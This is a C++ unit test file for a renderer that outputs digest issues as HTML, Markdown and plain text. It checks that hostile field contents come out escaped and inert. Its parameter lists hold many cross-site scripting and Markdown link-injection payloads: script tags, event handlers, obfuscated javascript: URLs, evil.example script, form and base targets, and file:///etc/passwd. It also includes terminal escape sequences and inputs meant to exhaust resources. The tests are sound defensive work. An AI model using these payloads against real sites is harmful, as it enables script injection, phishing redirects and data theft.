// Bodies and fields written to break out: whatever they hold, no format carries
// anything that runs, loads, or leads where a reader would not expect.

#include <cmark.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <cctype>
#include <cstdlib>
#include <memory>

#include "services/render/formats/renderer.h"
#include "services/render/html/html_scan.h"
#include "services/render/text/text_emitter.h"
#include "text/columns.h"

namespace pulse::render {
namespace {

using testing::IsEmpty;

v1::Issue IssueWithBody(const std::string& body) {
  v1::Issue issue;
  issue.set_etag("e1");
  issue.set_title("Digest");
  issue.set_introduction(body);
  issue.add_notices(body);
  issue.mutable_contact()->set_text(body);
  v1::Item* item = issue.add_sections()->add_items();
  item->set_name("issues/2031-03/items/x");
  item->set_title("Item");
  item->set_body(body);
  return issue;
}

std::string Render(const v1::Issue& issue, v1::RenderFormat format) {
  return RenderIssue(issue, format).value().content;
}

// As somebody else's renderer with its safety off would show our Markdown.
std::string MarkdownAsHtml(const std::string& markdown) {
  const std::unique_ptr<char, decltype(&free)> html(
      cmark_markdown_to_html(markdown.data(), markdown.size(), CMARK_OPT_UNSAFE), &free);
  return html.get();
}

void ExpectHarmless(const v1::Issue& issue) {
  const std::string page = Render(issue, v1::RENDER_FORMAT_PAGE);
  EXPECT_THAT(FindActiveContent(page), IsEmpty()) << page.substr(page.find("</head>"));
  EXPECT_THAT(FindActiveContent(Render(issue, v1::RENDER_FORMAT_FRAGMENT)), IsEmpty());
  const std::string markdown = Render(issue, v1::RENDER_FORMAT_MARKDOWN);
  EXPECT_THAT(FindActiveContent(MarkdownAsHtml(markdown)), IsEmpty()) << markdown;
  for (const std::string& output : {page, markdown, Render(issue, v1::RENDER_FORMAT_TEXT)}) {
    for (const char c : output)
      ASSERT_FALSE(std::iscntrl(static_cast<unsigned char>(c)) && c != '\n') << int{c};
  }
}

class HostileBody : public testing::TestWithParam<std::string> {};

TEST_P(HostileBody, LeavesNothingActive) { ExpectHarmless(IssueWithBody(GetParam())); }

TEST_P(HostileBody, KeepsHeadingsInOrder) {
  const std::vector<int> levels = HeadingLevels(Render(IssueWithBody(GetParam()), v1::RENDER_FORMAT_PAGE));
  EXPECT_EQ(std::count(levels.begin(), levels.end(), 1), 1);
  for (std::size_t i = 1; i < levels.size(); ++i) EXPECT_LE(levels[i], levels[i - 1] + 1);
}

INSTANTIATE_TEST_SUITE_P(
    Bodies, HostileBody,
    testing::Values(
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "text <script>alert(1)</script> text", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>", "<a href=\"javascript:alert(1)\">x</a>",
        "<style>*{display:none}</style>", "</style><script>alert(1)</script>",
        "</article></main></body></html><script>alert(1)</script>", "<!-- comment --><b>x</b>",
        "<!--\n\n--><b>x</b>", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>", "<!DOCTYPE html>",
        "<meta http-equiv=refresh content=0>", "<base href=//evil.example>",
        "<form action=//evil.example><input name=q></form>", "<object data=x></object>", "<h1>Mine</h1>",
        "# Mine\n\n##### Deep\n\n# Again", "Mine\n====", "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))", "[x](<java\tscript:alert(1)>)", "[x](java&#10;script:alert(1))",
        "[x](&#106;avascript:alert(1))", "[x](javascript&colon;alert(1))", "[x](%6Aavascript:alert(1))",
        "[x](&#1;javascript:alert(1))", "[x](\\javascript:alert(1))",
        "[x](javascript://a.example/%0Aalert(1))", "<javascript:alert(1)>", "[x](vbscript:x)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](file:///etc/passwd)", "[x](x-foo:bar)",
        "[x](//evil.example)", "[x](/\\evil.example)", "[x](https://user:pw@evil.example)",
        "[x](https://bank.example@evil.example)", "[x](https:evil.example)", "<x-foo:bar>",
        "[x][r]\n\n[r]: javascript:alert(1)", "[x](https://a.example/\"onclick=alert(1))",
        "[x](https://a.example \"\\\" onclick=alert(1)\")",
        "[x](<https://a.example/><script>alert(1)</script>>)", "![x](javascript:alert(1))",
        "![x\"onerror=\"alert(1)](y)", "![](https://tracker.example/pixel.gif)",
        "[![x](https://tracker.example/p)](javascript:alert(1))",
        "![[in](javascript:alert(1))](https://a.example)", "`<script>`",
        "```<script>\n</code></pre><script>alert(1)\n```", "```html\"><script>\nx\n```",
        "    <script>alert(1)</script>", "> <script>alert(1)</script>", "- <script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "\\<script>alert(1)\\</script>",
        "\\[x](javascript:alert(1))", "[x\\](javascript:alert(1))](https://a.example)",
        "&#91;x](javascript:alert(1))", "&#10;&#10;<script>alert(1)</script>", "a&#13;<script>",
        "\x1B]0;title\x07\x1B[2J", "a\xE2\x80\xAEtxt.exe", "\xFF\xFE<script>", "\xC0\xBCscript\xC0\xBE",
        std::string("a\0<script>", 10), "[a]: <javascript:alert(1)>\n[a]", "~~~\nunclosed", "```\nunclosed",
        "<div>\nunclosed", "*unclosed **emphasis", "[unclosed](https://a.example"));

TEST(FindActiveContent, FindsWhatAPageMustNotHold) {
  for (const char* html : {"<script>x</script>", "<p onclick=\"x\">", "<a href=\"javascript:x\">",
                           "<a href=\"//h\">", "<p style=\"x\">", "<a href=\"https://u@h/\">",
                           "<img alt=\"x\">", "<!--x-->", "<a href=javascript:x>", "<>"}) {
    EXPECT_THAT(FindActiveContent(html), testing::Not(IsEmpty())) << html;
  }
  EXPECT_THAT(FindActiveContent("<p class=\"a\"><a href=\"https://h/?a&amp;b@\">x</a></p>"), IsEmpty());
}

TEST(Hostile, EveryField_IsEscaped) {
  const std::string attack = "\"'><script>alert(1)</script>&lt;![x](javascript:y)\n# <b>";
  v1::Issue issue = IssueWithBody(attack);
  issue.set_name(attack);
  issue.set_title(attack);
  issue.mutable_edition()->set_month(99);
  issue.add_signatories()->set_name(attack);
  issue.mutable_signatories(0)->set_role(attack);
  issue.mutable_contact()->set_telephone(attack);
  issue.mutable_contact()->set_email(attack);
  issue.mutable_contact()->set_website(attack);
  v1::Section* section = issue.mutable_sections(0);
  section->set_sector("sectors/" + attack);
  section->set_title(attack);
  v1::Item* item = section->mutable_items(0);
  item->set_name(attack);
  item->set_title(attack);
  item->set_byline(attack);
  item->add_publishers()->set_display_name(attack);
  item->add_captions(attack);
  item->set_kind(v1::ITEM_KIND_REPORT);
  ExpectHarmless(issue);

  issue.mutable_contact()->clear_text();
  item->clear_byline();
  ExpectHarmless(issue);
}

TEST(Hostile, ThousandNestedLists_KeepTheirTextInFewLevels) {
  std::string body;
  for (int i = 0; i < 1000; ++i) body += "- ";
  body += "bottom";
  const std::string page = Render(IssueWithBody(body), v1::RENDER_FORMAT_PAGE);
  EXPECT_NE(page.find("bottom"), std::string::npos);
  EXPECT_LT(page.size(), 50000U);
  ExpectHarmless(IssueWithBody(body));
}

TEST(Hostile, HundredThousandNestedQuotesAndBrackets_AreRead) {
  for (const char* opening : {"> ", "[", "*a **b "}) {
    std::string body;
    for (int i = 0; i < 100000; ++i) body += opening;
    EXPECT_FALSE(Render(IssueWithBody(body + "x"), v1::RENDER_FORMAT_TEXT).empty());
  }
}

TEST(Hostile, MegabyteParagraph_IsWrapped) {
  std::string body;
  while (body.size() < (1U << 20U)) body += "word ";
  body += std::string(1U << 20U, 'x');
  const std::string text = Render(IssueWithBody(body), v1::RENDER_FORMAT_TEXT);
  EXPECT_GT(text.size(), body.size());
  for (std::size_t at = 0; at < text.size();) {
    const std::size_t end = text.find('\n', at);
    ASSERT_LE(text::ColumnsOf(std::string_view(text).substr(at, end - at)), kTextColumns);
    at = end + 1;
  }
}

}  // namespace
}  // namespace pulse::render
